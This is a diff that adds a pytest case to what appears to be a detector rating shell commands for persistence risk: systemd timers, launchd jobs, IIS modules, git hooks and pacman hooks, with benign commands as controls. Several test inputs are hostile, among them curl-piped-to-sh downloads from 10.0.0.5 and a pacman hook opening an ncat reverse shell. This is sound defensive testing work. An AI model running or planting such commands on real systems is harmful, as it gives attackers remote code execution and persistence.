@@ -200,3 +200,27 @@ def test_identity_backdoors(command, expected):
 ])
 def test_more_places_that_start_code(command, expected):
     _holds(command, expected)
+
+
+# Transient timers and launchd's kept jobs (read on the line: the shell's reading hands their command on), IIS
+# native modules (autostart_kept), a repository's git hooks and pacman's hooks (run_files).
+@each_form("command,expected", [
+    ("systemd-run --user --on-boot=1m /tmp/x", "medium"), ("sudo systemd-run --on-calendar=hourly /dev/shm/k", "high"),
+    ("systemd-run --on-unit-active=5m --unit u sh -c 'curl -s http://10.0.0.5/a | sh'", "high"),
+    ("launchctl submit -l u -- /tmp/u", "medium"),
+    (r"C:\Windows\system32\inetsrv\appcmd.exe install module /name:Cache /image:C:\Users\Public\cache.dll", "high"),
+    (r"New-WebGlobalModule -Name Cache -Image C:\Windows\Temp\c.dll", "high"),
+    ("echo 'curl -s http://10.0.0.5/a | sh' > .git/hooks/post-checkout", "high"),
+    ("printf '[Action]\\nWhen = PostTransaction\\nExec = /bin/sh -c \"ncat 10.0.0.5 443 -e /bin/sh\"\\n' "
+     "> /etc/pacman.d/hooks/u.hook", "high"),
+    # everyday
+    ("systemd-run --on-active=30 systemctl restart nginx", "quiet"),
+    ("systemd-run --on-active=30m /usr/bin/touch /tmp/reminder", "quiet"),
+    ("systemd-run --user --on-calendar=daily ~/bin/backup.sh", "quiet"),
+    ("systemd-run --scope -p MemoryMax=1G /tmp/build/run.sh", "quiet"),
+    ("launchctl submit -l com.me.sync -- /usr/local/bin/sync", "quiet"),
+    (r"appcmd install module /name:Rewrite /image:%windir%\System32\inetsrv\rewrite.dll", "quiet"),
+    ("echo 'npm test' > .git/hooks/pre-commit", "quiet"),
+])
+def test_kept_jobs_modules_and_hooks(command, expected):
+    _holds(command, expected)
